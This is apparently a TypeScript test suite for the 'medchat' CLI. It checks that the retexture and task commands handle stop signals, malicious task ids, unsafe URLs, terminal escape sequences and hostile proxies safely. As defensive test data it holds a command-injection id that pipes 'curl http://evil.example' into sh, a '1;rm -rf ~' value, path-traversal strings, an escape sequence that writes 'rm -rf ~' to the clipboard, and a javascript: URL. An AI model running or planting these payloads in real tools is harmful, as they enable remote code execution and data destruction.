// retexture and task against hostile input: stop signals in every phase, task ids and fields a
// service should never send, links medchat does not take, and proxies that refuse or stay
// silent. The built binary against the double (or a hostile proxy) over real sockets.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startServiceDouble, type ServiceDouble } from '../../src/stand-in/index.js';
import { TEST_KEY, waitFor } from '../support/cli.js';
import { startHostileProxy } from '../support/hostile-proxy.js';
import { errorLine, runWatched, type WatchedResult } from '../support/watched-run.js';
import { PNG_BYTES, tempDir, writeTemp } from '../fixtures/images.js';

const FAST = ['--poll-interval', '0.02'];

function checked(r: WatchedResult): WatchedResult {
  assert.ok(!r.stdout.includes(TEST_KEY) && !r.stderr.includes(TEST_KEY), 'the key was printed');
  assert.ok(!/[\u001b\u009b]/.test(r.stderr), `an escape sequence reached stderr: ${JSON.stringify(r.stderr)}`);
  errorLine(r); // every stderr line is a medchat: line, no stack trace
  return r;
}

describe('retexture and task under hostile conditions', () => {
  let d: ServiceDouble;
  let png: string;
  const dirs: string[] = [];
  before(async () => {
    d = await startServiceDouble();
    png = writeTemp('scan.png', PNG_BYTES);
    dirs.push(path.dirname(png));
  });
  after(async () => {
    await d.close();
    for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
  });
  const run = async (args: string[], extra: Parameters<typeof runWatched>[1] = {}) => checked(await runWatched(args, { baseUrl: d.url, ...extra }));

  describe('a stop signal exits with its own code in every phase (130 SIGINT, 143 SIGTERM, 129 SIGHUP)', () => {
    const signals = [
      ['SIGINT', 130],
      ['SIGTERM', 143],
      ['SIGHUP', 129],
    ] as const;
    for (const [signal, code] of signals) {
      it(`${signal} while submitting`, async () => {
        d.retexture.enqueue({ raw: { status: 200, stall: 'headers' } });
        const before = d.retexture.submits.length;
        const r = await run(['retexture', '--image', png, '--wait', 'x'], {
          onSpawn: (child) => void waitFor(() => d.retexture.submits.length > before, 8000, 'the submit').then(() => child.kill(signal)),
        });
        assert.equal(r.code, code, r.stderr);
        assert.equal(r.stdout, '');
        assert.equal(r.stderr, 'medchat: interrupted before the service answered; the job may or may not have been submitted\n');
      });

      it(`${signal} while waiting (a poll hangs)`, async () => {
        const id = `51${code}`;
        d.retexture.addTask(id, { fetchResponse: { status: 200, stall: 'headers' } });
        const r = await run(['task', id, '--wait', ...FAST], {
          onSpawn: (child) => void waitFor(() => d.retexture.fetchesOf(id).length > 0, 8000, 'a poll').then(() => child.kill(signal)),
        });
        assert.equal(r.code, code, r.stderr);
        assert.equal(r.stdout, '');
        assert.equal(r.stderr, `medchat: stopped waiting; task ${id} goes on — follow it with: medchat task ${id} --wait\n`);
      });

      it(`${signal} while downloading the image`, async () => {
        const id = `52${code}`;
        d.retexture.images.set(`held-${code}.png`, { bytes: PNG_BYTES, contentType: 'image/png', stall: 'headers' });
        d.retexture.addTask(id, { steps: [], imageUrl: `${d.url}/mj/image/held-${code}.png` });
        const dir = tempDir();
        dirs.push(dir);
        const held = () => d.retexture.imageRequests.some((q) => q.path === `/mj/image/held-${code}.png`);
        const r = await run(['task', id, '--output', dir, ...FAST], {
          onSpawn: (child) => void waitFor(held, 8000, 'the download').then(() => child.kill(signal)),
        });
        assert.equal(r.code, code, r.stderr);
        assert.equal(r.stdout, '');
        assert.equal(errorLine(r), `medchat: stopped the download; task ${id} is done — get the image with: medchat task ${id} --output ${dir}`);
        assert.deepEqual(fs.readdirSync(dir), []);
      });
    }
  });

  describe('task ids never reach a URL or a suggested command unquoted', () => {
    for (const hostile of ['1 ; curl http://evil.example | sh ;', '../../admin', '1?x=1#y', '%2e%2e']) {
      it(`a service that sends ${JSON.stringify(hostile)} as the id is refused before anything uses it`, async () => {
        d.retexture.enqueue({ id: hostile });
        const polls = d.server.requestsTo(/^\/mj\/task\//).length;
        const r = await run(['retexture', '--image', png, '--wait', ...FAST, 'x']);
        assert.equal(r.code, 1, r.stderr);
        assert.equal(r.stdout, '');
        assert.equal(r.stderr, `medchat: the service accepted the job (code 1) but sent a task id medchat will not use: ${JSON.stringify(hostile)} (ids are letters, digits and . _ - : @ + = ~); report it to the service's operator\n`);
        assert.equal(d.server.requestsTo(/^\/mj\/task\//).length, polls, 'a task was queried');
      });
    }

    for (const typed of ['../x', '1;rm -rf ~', 'a?b', 'a#b', '%2e%2e', '.', '..', "1'2"]) {
      it(`medchat task ${JSON.stringify(typed)} is a usage error and sends nothing`, async () => {
        const before = d.server.requests.length;
        const r = await run(['task', typed]);
        assert.equal(r.code, 2, r.stderr);
        assert.match(errorLine(r), /is not a task id \(ids are letters, digits and \. _ - : @ \+ = ~\); pass the id that `medchat retexture` printed$/);
        assert.equal(d.server.requests.length, before);
      });
    }

    it('an id that is not a plain word is quoted in the hint and encoded in the URL', async () => {
      const id = 'job=7:a~b';
      d.retexture.addTask(id, { end: 'never' });
      const r = await run(['task', id, '--wait', ...FAST, '--timeout', '0.3']);
      assert.equal(r.code, 7, r.stderr);
      assert.equal(r.stdout, `${id}\n`);
      assert.equal(errorLine(r), `medchat: task '${id}' did not finish within 0.3s (still IN_PROGRESS at 99%); check again later with: medchat task '${id}' --wait`);
      assert.equal(d.retexture.fetchesOf(id)[0]!.path, '/mj/task/job%3D7%3Aa~b/fetch');
    });
  });

  describe('task fields are made safe before they reach a terminal', () => {
    it('a failReason with escape sequences is shown, not obeyed', async () => {
      d.retexture.addTask('61', { steps: [], end: 'FAILURE', failReason: '\u001b]52;c;cm0gLXJmIH4=\u0007bad \u001b[2Jimage\u009b31m' });
      const r = await run(['task', '61']);
      assert.equal(r.code, 6, r.stderr);
      assert.match(errorLine(r), /^medchat: task 61 failed: .*bad .*image/);
    });

    it('an image URL with spaces and a newline is printed as one resolved link', async () => {
      d.retexture.addTask('62', { steps: [], imageUrl: '/mj/image/a b.png\n' });
      const r = await run(['task', '62']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, `${d.url}/mj/image/a%20b.png\n`);
    });

    it('an image URL that is not http(s) is refused', async () => {
      d.retexture.addTask('63', { steps: [], imageUrl: 'javascript:alert(1)' });
      const r = await run(['task', '63']);
      assert.equal(r.code, 1, r.stderr);
      assert.equal(r.stdout, '');
      assert.equal(r.stderr, 'medchat: the service gave an image URL that is not an http(s) link (javascript:); see the record with --json\n');
    });
  });

  describe('--image takes files, http(s) links and - only', () => {
    it('a file:// link says to give the path itself', async () => {
      const r = await run(['retexture', '--image', 'file:///tmp/my%20scan.png', 'x']);
      assert.equal(r.code, 2, r.stderr);
      assert.equal(r.stderr, "medchat: --image takes an http(s):// link, a file path or - (stdin), not a file:// link; give the path itself: --image '/tmp/my scan.png'\n");
    });

    it('another scheme says what is taken', async () => {
      const r = await run(['retexture', '--image', 'ftp://files.example.com/a.png', 'x']);
      assert.equal(r.code, 2, r.stderr);
      assert.equal(r.stderr, 'medchat: --image takes an http(s):// link, a file path or - (stdin), not a ftp:// link; download it first and give the file, or pipe it in with --image -\n');
    });
  });

  describe('a proxy that refuses or stays silent: bounded attempts, the proxy named, the deadline kept', () => {
    // HTTPS_PROXY carries https:// only: that service is a name only a proxy could resolve (it never does here).
    for (const variable of ['HTTP_PROXY', 'HTTPS_PROXY'] as const) {
      const service = () => (variable === 'HTTP_PROXY' ? d.url : 'https://retexture.test');
      const through = (proxyUrl: string) => ({ baseUrl: service(), env: { [variable]: proxyUrl } });
      it(`${variable}: a proxy that refuses (403) is named, tried once`, async () => {
        const proxy = await startHostileProxy('refuse');
        try {
          const r = await run(['retexture', '--image', png, '--wait', ...FAST, 'x'], through(proxy.url));
          assert.equal(r.code, 1, r.stderr);
          const host = new URL(service()).host.replace(/\./g, '\\.');
          assert.match(r.stderr, new RegExp(`^medchat: the proxy ${proxy.host} (could not reach|refused to tunnel to) ${host} \\((CONNECT, )?403[^)]*\\); [^\\n]+\\n$`));
          assert.ok(proxy.requests() <= 2, `${proxy.requests()} requests to the proxy`);
        } finally {
          await proxy.close();
        }
      });

      it(`${variable}: a proxy that asks for a login (407) says how to give one`, async () => {
        const proxy = await startHostileProxy('login');
        try {
          d.retexture.addTask('70', { end: 'never' });
          const r = await run(['task', '70', '--wait', ...FAST], through(proxy.url));
          assert.equal(r.code, 1, r.stderr);
          assert.equal(r.stderr, `medchat: the proxy ${proxy.host} wants a user name and password (407); put them in ${variable}, e.g. ${variable}=http://user:password@${proxy.host}\n`);
          assert.ok(proxy.requests() <= 2, `${proxy.requests()} requests to the proxy`);
        } finally {
          await proxy.close();
        }
      });

      it(`${variable}: a silent proxy ends at --timeout, naming the proxy`, async () => {
        const proxy = await startHostileProxy('silent');
        try {
          d.retexture.addTask('71', { end: 'never' });
          const r = await run(['task', '71', '--wait', ...FAST, '--timeout', '1.5'], through(proxy.url));
          assert.equal(r.code, 7, r.stderr);
          assert.equal(r.stdout, '71\n');
          assert.equal(r.stderr, `medchat: task 71 did not finish within 1.5s (no answer from the service through the proxy ${proxy.host}); check again later with: medchat task 71 --wait\n`);
          assert.ok(r.elapsedMs < 3500, `took ${r.elapsedMs} ms`);
          assert.ok(proxy.connections() <= 2, `${proxy.connections()} connections`);
        } finally {
          await proxy.close();
        }
      });

      it(`${variable}: a proxy that hangs up ends at --timeout`, async () => {
        const proxy = await startHostileProxy('close');
        try {
          d.retexture.addTask('72', { end: 'never' });
          const r = await run(['task', '72', '--wait', ...FAST, '--timeout', '1.5'], through(proxy.url));
          assert.ok(r.code === 1 || r.code === 7, `exit ${r.code}: ${r.stderr}`);
          assert.ok(r.elapsedMs < 3500, `took ${r.elapsedMs} ms`);
        } finally {
          await proxy.close();
        }
      });

      it(
        `${variable}: a proxy that hangs up is not reconnected to in a loop`,
        async () => {
          const proxy = await startHostileProxy('close');
          try {
            d.retexture.addTask('73', { end: 'never' });
            await run(['task', '73', '--wait', ...FAST, '--timeout', '1'], through(proxy.url));
            assert.ok(proxy.connections() <= 10, `${proxy.connections()} connections in 1 s`);
          } finally {
            await proxy.close();
          }
        },
      );
    }
  });
});
